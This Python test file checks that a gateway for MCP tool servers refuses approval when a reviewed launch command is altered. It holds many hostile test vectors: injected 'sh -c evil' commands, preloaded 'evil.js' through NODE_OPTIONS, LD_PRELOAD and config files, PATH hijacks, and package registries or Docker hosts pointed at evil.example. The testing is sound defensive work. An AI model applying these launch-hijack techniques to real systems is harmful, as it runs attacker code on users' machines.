"""A command that a person has reviewed is started in another way, so that other code runs: by an option of its launcher,
another launcher of the same name, a variable, a file of the project it starts in. Its tools look the same. None of them
may count as approved."""

import hashlib
import json
import sys

import pytest

from callgate.app.servers import command_place, remember_variables
from support.fork_server import CALLGATE
from support.gateway import approve_listed, serving, write_config
from support.pinning import PINNING, Site
from support.raw_clients import RawHttpClient, RawPipeClient
from support.registry import requirement
from support.shifting import Shifty, tool

SPEC = "@modelcontextprotocol/server-memory@2025.9.25"
WHEEL = "mcp-server-time==2025.9.25"
IMAGE = f"mcp/time@sha256:{'ab' * 32}"

# Every way of these starts the same small server, whatever stands on the command: what counts is what Callgate takes it for.
BASES = {
    "npx": ["{bin}/npx", "-y", SPEC],
    "uvx": ["{bin}/uvx", WHEEL],
    "docker": ["{bin}/docker", "run", "-i", "--rm", IMAGE],
    "python": ["{bin}/python3", "{code}/srv.py", "A"],
    "node": ["{bin}/node", "{code}/srv.js"],
}
ATTACKS = {
    "npx": [
        ["{bin}/npx", "-y", "-p", SPEC, "python", "evil.py"],
        ["{bin}/npx", "-y", f"--package={SPEC}", "--", "sh", "-c", "evil"],
        ["{project}/npx", "-y", SPEC],
        ["{bin}/npx", "-y", "--node-options=--require=./evil.js", SPEC],
        ["{bin}/npx", "-y", "--prefix", "{project}", SPEC],
        ["{bin}/npx", "-y", "--userconfig", "{project}/npmrc", SPEC],
        ["{bin}/npx", "-y", "--script-shell", "{project}/npx", SPEC],
        ["{bin}/npx", "-y", SPEC, "--load", "evil.js"],
        ["env", "NODE_OPTIONS=--require=./evil.js", "{bin}/npx", "-y", SPEC],
        ["env", "PATH={project}:/usr/bin:/bin", "{bin}/npx", "-y", SPEC],
        ["env", "-C", "{project}", "{bin}/npx", "-y", SPEC],
    ],
    "uvx": [
        ["{bin}/uvx", "--from", WHEEL, "python", "x.py"],
        ["{bin}/uvx", "--with", "evil", WHEEL],
        ["{bin}/uvx", "--with-editable", "{project}", WHEEL],
        ["{bin}/uvx", "--overrides", "{project}/npmrc", WHEEL],
        ["{bin}/uvx", "-p", "{project}/python3", WHEEL],
        ["{project}/uvx", WHEEL],
    ],
    "docker": [
        ["{bin}/docker", "run", "-i", "--rm", "--entrypoint", "sh", IMAGE],
        ["{bin}/docker", "run", "-i", "--rm", "-v", "{project}:/app", IMAGE],
        ["{bin}/docker", "--host", "tcp://evil.example", "run", "-i", "--rm", IMAGE],
        ["{bin}/docker", "run", "-i", "--rm", "-e", "NODE_OPTIONS=--require=/evil.js", IMAGE],
        ["{bin}/docker", "run", "-i", "--rm", "-e", "SOME_PLUGIN=/data/evil.js", IMAGE],
        ["{bin}/docker", "run", "-i", "--rm", IMAGE, "sh", "-c", "evil"],
    ],
    "python": [
        ["{bin}/python3", "{code}/srv.py", "B"],
        ["{bin}/python3", "{code}/srv.py"],
        ["{project}/python3", "{code}/srv.py", "A"],
        ["{bin}/python3", "-X", "importtime", "{code}/srv.py", "A"],
    ],
    "node": [
        ["{bin}/node", "--require", "{project}/evil.js", "{code}/srv.js"],
        ["{bin}/node", "--import={project}/evil.js", "{code}/srv.js"],
        ["{bin}/node", "{code}/srv.js", "--plugin", "{project}/evil.js"],
    ],
}
VARIABLES = {
    "npx": {
        "NODE_OPTIONS": "--require=./evil.js",
        "NODE_PATH": "{project}",
        "npm_config_registry": "https://evil.example/",
        "NPM_CONFIG_NODE_OPTIONS": "--require=./evil.js",
        "npm_config_userconfig": "{project}/npmrc",
        "LD_LIBRARY_PATH": "{project}",
        "HOME": "{project}",
        "PATH": "{project}:/usr/bin:/bin",
        "BASH_ENV": "{project}/npx",
        "XDG_CACHE_HOME": "{project}",
        "XDG_DATA_DIRS": "/usr/share:{project}",
        "BUN_INSTALL_CACHE_DIR": "{project}",
        "GIT_ASKPASS": "{project}/npx",
        "SSH_ASKPASS": "{project}/npx",
        "GIT_EXTERNAL_DIFF": "{project}/npx",
        # Of families that no list names: what a value leads to counts.
        "PUPPETEER_EXECUTABLE_PATH": "{project}/npx",
    },
    "uvx": {
        "UV_INDEX": "https://evil.example/",
        "UV_OVERRIDE": "{project}/npmrc",
        "PIP_INDEX_URL": "https://evil.example/",
        "PYTHONPATH": "{project}",
        "PATH": "{project}:/usr/bin:/bin",
        "REQUESTS_CA_BUNDLE": "{project}/npmrc",
        "CURL_CA_BUNDLE": "{project}/npmrc",
        "FLASK_APP": "evil",
    },
    "docker": {"DOCKER_HOST": "tcp://evil.example", "DOCKER_CONFIG": "{project}"},
    "python": {"PYTHONPATH": "{project}", "PYTHONSTARTUP": "{project}/srv.py", "PYTHONHOME": "{project}"},
    "node": {"NODE_OPTIONS": "--require=./evil.js", "NODE_EXTRA_CA_CERTS": "{project}/npmrc"},
}
# Folders to start in, with what lies there and is taken by the launcher.
FOLDERS = {
    "npmrc": (".npmrc", "node-options=--require=./evil.js\n"),
    "copy": ("node_modules/@modelcontextprotocol/server-memory/package.json", '{"version":"2025.9.25"}'),
    "yarn": (".yarnrc.yml", "yarnPath: ./evil.js\n"),
    "bun": ("bunfig.toml", 'preload = ["./evil.js"]\n'),
}


class Machine:
    """Launchers and programs that all start one shifty server, and a project folder of somebody else's."""

    def __init__(self, directory):
        self.shifty = Shifty(directory / "shifty")
        self.shifty.fresh(tool("read"))
        self.places = {name: directory / name for name in ("bin", "code", "project")}
        # It takes no word and no variable from whoever starts it, whatever those are.
        start = f'#!/bin/sh\nexec "{sys.executable}" -I -S "{self.shifty.program}" stdio "{self.shifty.directory}"\n'
        for place in self.places.values():
            place.mkdir()
            for name in ("npx", "uvx", "docker", "node", "python3"):
                (place / name).write_text(f"{start}# {place.name}\n")
                (place / name).chmod(0o755)
        for name in ("srv.py", "srv.js"):
            (self.places["code"] / name).write_text("# Started by nobody.\n")
        for name in ("evil.js", "npmrc"):
            (self.places["project"] / name).write_text("evil\n")
        for name, (path, text) in FOLDERS.items():
            place = directory / "folders" / name / path
            place.parent.mkdir(parents=True)
            place.write_text(text)
            self.places[name] = directory / "folders" / name

    def filled(self, text):
        return text.format(**self.places)

    def argv(self, words):
        return [self.filled(word) for word in words]


@pytest.fixture
def machine(tmp_path):
    return Machine(tmp_path)


def started_otherwise(machine):
    """Every other way to start each of the commands, as tables of a configuration, by a name."""
    for kind, commands in ATTACKS.items():
        for number, words in enumerate(commands):
            yield kind, f"{kind}-{number}", {"command": machine.argv(words)}
    for kind, variables in VARIABLES.items():
        for number, (name, value) in enumerate(variables.items()):
            table = {"command": machine.argv(BASES[kind]), "env": {name: machine.filled(value)}}
            yield kind, f"{kind}-env-{number}", table
    for name in FOLDERS:
        yield "npx", f"npx-in-{name}", {"command": machine.argv(BASES["npx"]), "cwd": str(machine.places[name])}


@requirement("TP-025", "TP-028", "TP-049")
def test_under_callgate_serve(tmp_path, machine):
    others = [*started_otherwise(machine)]
    tables = {kind: {"command": machine.argv(words)} for kind, words in BASES.items()}
    tables |= {name: table for _, name, table in others}
    pinning = PINNING | {"servers": 100}
    with serving(tmp_path, tables, reviewed=False, pinning=pinning, limits={"processes": 100}) as gateway:
        site = Site(tmp_path, gateway, dict.fromkeys(BASES, machine.shifty))
        for kind in BASES:
            visitor = RawHttpClient(gateway.url(kind), "legacy")
            assert visitor.names() == []
            site.approve(kind, "read")
            visitor.until_open("read")
        before = len(machine.shifty.called)
        taken = []
        for kind, name, table in others:
            visitor = RawHttpClient(gateway.url(name), "legacy")
            if visitor.names() or visitor.reason("read") != "tool_not_approved":
                taken.append((kind, table))
        assert taken == []
        assert len(machine.shifty.called) == before
        refused = {one["server"] for one in site.records() if one.get("reason") == "tool_not_approved"}
        assert refused >= {name for _, name, _ in others}
        # What was reviewed is still open.
        for kind in BASES:
            RawHttpClient(gateway.url(kind), "legacy").until_open("read")


@requirement("TP-025", "TP-028", "TP-049")
def test_under_callgate_wrap(tmp_path, machine):
    """The entry of one name in a client's configuration is edited: its command, its variables, its folder."""
    config = write_config(tmp_path, {}, pinning=PINNING)
    shifty, log = machine.shifty, tmp_path / "wrap.log"

    def wrapped(kind, table):
        argv = [CALLGATE, "wrap", "--alone", "-c", str(config), kind, "--", *table["command"]]
        return RawPipeClient(argv, "legacy", log, env=table.get("env"), cwd=table.get("cwd"))

    taken = []
    for kind in ("npx", "python"):
        plain = {"command": machine.argv(BASES[kind])}
        visitor = wrapped(kind, plain)
        assert visitor.names() == []
        approve_listed(config)
        visitor.until_open("read")
        visitor.close()
        before = len(shifty.called)
        for other, _, table in started_otherwise(machine):
            if other != kind:
                continue
            visitor = wrapped(kind, table)
            if visitor.names() or visitor.reason("read") != "tool_not_approved":
                taken.append((kind, table))
            visitor.close()
        assert taken == []
        assert len(shifty.called) == before
        visitor = wrapped(kind, plain)
        visitor.until_open("read")
        visitor.close()


@requirement("TP-028", "TP-050")
def test_an_approval_that_says_nothing_of_the_arguments(tmp_path, machine):
    """As earlier versions wrote it: for a file alone. It holds for that file started plainly, and for nothing else."""
    argv = [str((machine.places["code"] / "npx").rename(machine.places["code"] / "srv"))]
    tables = {"plain": {"command": argv}, "other": {"command": [*argv, "--load", "evil.js"]}}
    with serving(tmp_path, tables, reviewed=False, pinning=PINNING) as gateway:
        site = Site(tmp_path, gateway, dict.fromkeys(tables, machine.shifty))
        plain, other = (RawHttpClient(gateway.url(name), "legacy") for name in ("plain", "other"))
        assert (plain.names(), other.names()) == ([], [])
        bare, full = site.identity("plain").server_id, site.identity("other").server_id
        assert bare.startswith(f"file:{argv[0]}#sha256:")
        assert " with " not in bare
        assert full.partition(" with ")[0] == bare.partition(" (")[0]
        site.approve("plain", "read")
        plain.until_open("read")
        assert other.names() == []
        assert other.reason("read") == "tool_not_approved"
        # One question: the review says that the texts are the approved ones, and what it is started with.
        review = json.loads(site.command("review", "--json", status=None))
        (waiting,) = [one for one in review["servers"] if one["seen"]["server_id"] == full]
        assert waiting["tools"][0]["unchanged"]
        assert any("`--load`" in notice and "`evil.js`" in notice for notice in waiting["started"])
        assert any("started in another way" in notice for notice in waiting["notices"])


def test_variables_of_the_users_terminal_are_no_other_server_and_any_other_value_is(tmp_path, monkeypatch):
    """A desktop client has fewer variables than the terminal in which its servers were reviewed."""
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    session = {"PIP_DEFAULT_TIMEOUT": "180", "UV_PYTHON": "3.12", "UV_SYSTEM_PYTHON": "true"}
    # These lead to code or packages, and a project can set them in the user's terminal. They are remembered for none.
    leading = {
        "NODE_OPTIONS": "--require=./hook.js",
        "PYTHONPATH": "src",
        "LD_PRELOAD": "/home/ann/cloned/x.so",
        "DYLD_INSERT_LIBRARIES": "1",
        "BASH_ENV": "../rc",
        "ENV": "1",
        "NODE_PATH": "/home/ann/cloned",
        "NODE_EXTRA_CA_CERTS": "/home/ann/cloned/ca.pem",
        "NODE_TLS_REJECT_UNAUTHORIZED": "0",
        "PYTHONUSERBASE": "1",
        "PIP_INDEX_URL": "https://packages.example/simple",
        "UV_INDEX_URL": "https://packages.example/simple",
        "UV_PYTHON": ".venv",
        "UV_PROJECT": "1",
        "UV_FIND_LINKS": "1",
        "UV_INDEX": "/home/ann/index",
        "npm_config_registry": "https://packages.example/",
        "GOPROXY": "off",
        "GIT_ASKPASS": "on",
    }

    def identity(environ):
        known = {"PATH": "/usr/bin:/bin", **environ}
        return command_place("memory", ["npx", "-y", SPEC], "", None, folder="/", environ=known).identify("").server_id

    bare = identity({})
    assert identity(session) != bare
    remember_variables({**session, "SECRET": "unrelated"})
    remember_variables(leading)
    kept = tmp_path / "state" / "callgate" / "variables.json"
    assert kept.stat().st_mode & 0o077 == 0
    assert len(json.loads(kept.read_text())) == len(session)
    assert identity(session) == bare
    assert identity({"UV_PYTHON": session["UV_PYTHON"]}) == bare
    # Not even where an earlier version remembered them.
    old = [hashlib.sha256(f"{name}={value}".encode()).hexdigest() for name, value in leading.items()]
    kept.write_text(json.dumps(json.loads(kept.read_text()) + old))
    for name, value in {**leading, "PIP_DEFAULT_TIMEOUT": "1"}.items():
        assert identity({**session, name: value}) != bare, name
    # What another terminal has comes to it, and takes nothing away.
    remember_variables({"PIP_RETRIES": "9"})
    assert identity({**session, "PIP_RETRIES": "9"}) == bare


LEADING = {
    "SOME_SERVERS_SETTINGS": "{project}/evil.js",
    "SOME_FILE": "here:{project}/evil.js",
    "SOME_OTHER_FILE": "https://example.com,{project}/evil.js",
    "RELATIVE": "evil.js",
    "WHAT_COMES_LATER": "{project}/not-yet-there.mjs",
    "AWS_CONFIG_FILE": "{project}/npmrc",
    "SOME_PLUGINS": "evil",
    "SOME_PLUGIN_DIR": "{project}",
    "DJANGO_SETTINGS_MODULE": "evil.settings",
    "SERVER_MODULE_PATH": "{project}",
    "GTK_PATH": "/usr/lib:{project}",
    "EDITOR": "sh -c evil",
    "SHELL": "{project}/npx",
    "CXX": "make evil",
    "SOME_BINARY_MIRROR": "https://evil.example/",
    "EXTRAS": "--require evil",
    "npm_execpath": "{project}/evil.js",
    "LESSOPEN": "| {project}/npx %s",
    "MANY": ":".join(["x/y"] * 70),
    "PATH": ":/usr/bin:/bin",
    # A folder that is named as that of a running AppImage, and is none.
    "LD_LIBRARY_PATH": "{project}/.mount_evil/usr/lib",
    "PYTEST_ADDOPTS": "-p evil",
    "PYTEST_PLUGINS": "evil",
    "GITHUB_ACTION_PATH": "{project}/npx",
    "MAKEFLAGS": "w --no-print-directory --eval=all:",
    "MFLAGS": "-f evil.mk",
}
# What shells, desktops, editors and clients have in one session and not in the next, and settings of ordinary servers.
SESSIONS = [
    {},
    {"TERM_PROGRAM": "vscode", "VSCODE_GIT_IPC_HANDLE": "/run/user/1/a.sock", "PWD": "{project}", "_": "{project}/npx"},
    {"SSH_AUTH_SOCK": "/tmp/ssh-1/agent.1", "TMUX": "/tmp/tmux-1/default,1,0", "XAUTHORITY": "{project}/npmrc"},
    {"CLAUDE_CODE_ENTRYPOINT": "cli", "WORKSPACE_FOLDER_PATHS": "{project}", "INIT_CWD": "{project}"},
    {"EDITOR": "env --wait", "SHELL": "/bin/sh", "PAGER": "cat", "LESS": "-R", "LESSOPEN": "| /usr/bin/env %s"},
    {"ANDROID_HOME": "{project}", "OPENAI_BASE_URL": "https://api.example/v1", "OLLAMA_HOST": "http://localhost:11434"},
    {"LS_COLORS": "*.sh=01;32", "MAIL": "{project}/npmrc", "LANG": "de_AT.UTF-8", "COLORTERM": "truecolor"},
    {"DATABASE_URL": "postgres://ann:s3cret@db/a", "AWS_SECRET_ACCESS_KEY": "ab/c+d==", "SLACK_APP_TOKEN": "xapp-1/a"},
    {"PYTEST_CURRENT_TEST": "./evil.js::test (call)", "MYVIMRC": "{project}/evil.js", "GITHUB_ENV": "{project}/npmrc"},
    {"BAMF_DESKTOP_FILE_HINT": "{project}/npx", "GTK2_RC_FILES": "{project}/npx", "JEDITERM_SOURCE": "{project}/npx"},
    {"MAKEFLAGS": " --no-print-directory -- WORKERS=3", "MAKELEVEL": "1", "MAKE_TERMOUT": "/dev/pts/1", "MFLAGS": "-w"},
    {"LOG_LEVEL": "debug", "TOOLSETS": "repos,issues", "MEMORY_FILE_PATH": "{project}/memory.json", "SIZE": "12"},
]


def test_variables_of_any_name_that_lead_to_code_and_those_of_another_session(machine):
    def identity(environ):
        known = {"PATH": "/usr/bin:/bin", **{name: machine.filled(value) for name, value in environ.items()}}
        folder = str(machine.places["project"])
        return command_place("memory", ["uvx", WHEEL], "", None, folder=folder, environ=known).identify("")

    assert len({identity(environ).server_id for environ in SESSIONS}) == 1
    plain = identity({}).server_id
    assert [name for name, value in LEADING.items() if identity({name: value}).server_id == plain] == []
    # What is in the file counts too, and no password is shown.
    before = identity({"SOME_FILE": LEADING["SOME_FILE"]}).server_id
    (machine.places["project"] / "evil.js").write_text("more evil\n")
    assert identity({"SOME_FILE": LEADING["SOME_FILE"]}).server_id != before
    assert "s3cret" not in repr(identity({"SOME_SCRIPT": "https://ann:s3cret@example.com/"}))


def test_what_is_known_to_be_data_may_vary_and_nothing_else(tmp_path, machine):
    """An operator names one option of a script. Another value of it is the same server, another word is not."""
    program = (machine.places["code"] / "npx").rename(machine.places["code"] / "srv")
    data = [f"file:{program} --root", f"file:{program} *"]
    commands = {
        "first": ["--root", "/a", str(tmp_path)],
        "again": ["--root", "/b", str(machine.places["code"])],
        "more": ["--root", "/b", str(machine.places["code"]), "--load"],
        "hidden": ["--root", "--load", str(tmp_path)],
        "missing": ["--root", "/b", str(tmp_path / "nowhere")],
    }
    tables = {name: {"command": [str(program), *words]} for name, words in commands.items()}
    with serving(tmp_path, tables, reviewed=False, pinning=PINNING | {"data_arguments": data}) as gateway:
        site = Site(tmp_path, gateway, dict.fromkeys(tables, machine.shifty))
        visitors = {name: RawHttpClient(gateway.url(name), "legacy") for name in commands}
        assert visitors["first"].names() == []
        site.approve("first", "read")
        visitors["first"].until_open("read")
        assert {name: visitor.reason("read") for name, visitor in visitors.items()} == {
            "first": "",
            "again": "",
            "more": "tool_not_approved",
            "hidden": "tool_not_approved",
            "missing": "tool_not_approved",
        }
